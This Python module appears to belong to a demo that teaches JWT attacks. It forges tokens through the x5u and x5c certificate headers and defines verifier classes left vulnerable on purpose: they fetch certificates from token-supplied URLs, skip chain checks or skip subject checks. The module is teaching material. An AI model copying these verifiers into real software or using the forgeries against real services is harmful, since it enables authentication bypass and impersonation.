"""`x5u` and `x5c`: the token brings a certificate.

A certificate says whose key it holds.  It proves that only when somebody
whom the verifier trusts has signed it, and only for the name in it.
Source: RFC 7515 sections 4.1.5 and 4.1.6, RFC 5280 section 4.1.
"""

import base64
from datetime import datetime
from typing import Any

from demo.attacks.base import Attack, Attacker
from demo.attacks.forging import (
    ASYMMETRIC,
    by_key,
    own_key,
    public_key,
    signed_by,
    told,
)
from demo.attacks.header_keys import FIXED, data_url, fetched
from demo.attacks.turning import Flip, overriding
from demo.errors import BadSignature
from demo.harness import Client
from demo.keys import Key, key_for
from demo.schemes import JWT

# Small certificates: a name, a key, and who vouches for both

AUTHORITY = "Public Authority"
"""Sells a certificate to whoever owns the name in it."""

SPAN = (datetime(2020, 1, 1), datetime(2049, 12, 31))
"""From when to when each one is valid; no attack here is about that."""

MADE: dict[tuple[str, ...], Any] = {}
"""Certificates by key, subject, issuer and signer.  Each is made once,
because an ECDSA signature differs each time."""


def authority() -> Key:
    """The key of that authority."""
    return key_for("ES256", AUTHORITY)


def certificate_of(
    key: Key,
    subject: str,
    issuer: str = AUTHORITY,
    signer: Key | None = None,
) -> Any:
    """A certificate that says: this key is the subject's.  The authority
    signs it, unless another signer is given."""
    signer = signer or authority()
    slot = (key.kid, subject, issuer, signer.kid)
    if slot not in MADE:
        MADE[slot] = made(key, subject, issuer, signer)
    return MADE[slot]


def made(key: Key, subject: str, issuer: str, signer: Key) -> Any:
    from cryptography import x509
    from cryptography.hazmat.primitives.hashes import SHA256

    hashed = None if signer.algorithm == "EdDSA" else SHA256()
    return (
        x509.CertificateBuilder()
        .subject_name(name(subject))
        .issuer_name(name(issuer))
        .public_key(key.verifying)
        .serial_number(x509.random_serial_number())
        .not_valid_before(SPAN[0])
        .not_valid_after(SPAN[1])
        .sign(signer.signing, hashed)
    )


def name(common: str) -> Any:
    from cryptography import x509

    about = x509.NameAttribute(x509.NameOID.COMMON_NAME, common)
    return x509.Name([about])


def authority_certificate() -> Any:
    """The root that everybody trusts."""
    return certificate_of(authority(), AUTHORITY)


def written(certificate: Any, encoding: str) -> bytes:
    """The certificate as "PEM" text or "DER" bytes."""
    from cryptography.hazmat.primitives.serialization import Encoding

    return bytes(certificate.public_bytes(getattr(Encoding, encoding)))


def own_public_key(attacker: Attacker) -> Key:
    """Mallory's key, where the algorithm has public keys."""
    public_key(attacker)
    return own_key(attacker)


# The address of a certificate in the header


class FollowsX5u(JWT):
    """Overrides `decode`: it fetches a certificate from where the header
    says, and verifies by the key in it."""

    def decode(self, token: str) -> dict[str, Any]:
        from cryptography.x509 import load_pem_x509_certificate

        url = told(token, "x5u")
        if not url:
            return super().decode(token)
        certificate = load_pem_x509_certificate(fetched(url))
        return by_key(self, certificate.public_key(), token)


FOLLOWS_X5U = Flip(
    "where the key is from",
    "the token's x5u",
    overriding(JWT, FollowsX5u, *ASYMMETRIC),
)


def forge_x5u(attacker: Attacker) -> Client:
    """Mallory writes a certificate for the bank, and says where it is."""
    key = own_public_key(attacker)
    made = certificate_of(key, "bank.test", "mallory.test", key)
    return signed_by(attacker, key, x5u=data_url(written(made, "PEM")))


X5U = Attack(
    id="x5u",
    name="an address for the certificate",
    claim="A token that says where its certificate is gets verified by it.",
    family="signature",
    source="RFC 7515 section 4.1.5, CWE-295, CWE-918",
    forge=forge_x5u,
    fixed=FIXED,
    flip=FOLLOWS_X5U,
    chapter="forge-the-token",
)

# The certificate itself in the header


def first_of_chain(token: str) -> Any:
    """The certificate in the header that should hold the key; None if
    there is none.  Source: RFC 7515 section 4.1.6."""
    from cryptography.x509 import load_der_x509_certificate

    chain = told(token, "x5c")
    if not chain:
        return None
    return load_der_x509_certificate(base64.b64decode(chain[0]))


class SkipsChain(JWT):
    """Overrides `decode`: it verifies by the key in the certificate, and
    does not ask who signed the certificate."""

    def decode(self, token: str) -> dict[str, Any]:
        found = first_of_chain(token)
        if found is None:
            return super().decode(token)
        return by_key(self, found.public_key(), token)


class SkipsSubject(JWT):
    """Overrides `decode`: it asks whether the authority has signed the
    certificate, and does not ask whose certificate it is."""

    def decode(self, token: str) -> dict[str, Any]:
        from cryptography.exceptions import InvalidSignature

        found = first_of_chain(token)
        if found is None:
            return super().decode(token)
        try:
            found.verify_directly_issued_by(authority_certificate())
        except (InvalidSignature, ValueError, TypeError) as error:
            raise BadSignature("an unknown authority") from error
        return by_key(self, found.public_key(), token)


SKIPS_CHAIN = Flip(
    "where the key is from",
    "the token's x5c",
    overriding(JWT, SkipsChain, *ASYMMETRIC),
)
SKIPS_SUBJECT = Flip(
    "where the key is from",
    "the token's x5c, if our authority signed it",
    overriding(JWT, SkipsSubject, *ASYMMETRIC),
)


def with_certificate(attacker: Attacker, key: Key, made: Any) -> Client:
    chain = [base64.b64encode(written(made, "DER")).decode()]
    return signed_by(attacker, key, x5c=chain)


def forge_x5c(attacker: Attacker) -> Client:
    """Mallory signs a certificate for the bank herself."""
    key = own_public_key(attacker)
    made = certificate_of(key, "bank.test", "mallory.test", key)
    return with_certificate(attacker, key, made)


def forge_own_name(attacker: Attacker) -> Client:
    """A true certificate, which Mallory bought for a host of her own."""
    key = own_public_key(attacker)
    made = certificate_of(key, "mallory.test")
    return with_certificate(attacker, key, made)


X5C = Attack(
    id="x5c",
    name="a certificate by nobody",
    claim="A certificate that Mallory signed herself is trusted.",
    family="signature",
    source="RFC 7515 section 4.1.6, CWE-295",
    forge=forge_x5c,
    fixed=FIXED,
    flip=SKIPS_CHAIN,
    chapter="forge-the-token",
)
X5C_SUBJECT = Attack(
    id="x5c-subject",
    name="a certificate for somebody else",
    claim="A true certificate for Mallory's own host speaks for the bank.",
    family="signature",
    source="RFC 7515 section 4.1.6, CWE-297",
    forge=forge_own_name,
    fixed=FIXED,
    flip=SKIPS_SUBJECT,
    chapter="forge-the-token",
)

ATTACKS = (X5U, X5C, X5C_SUBJECT)
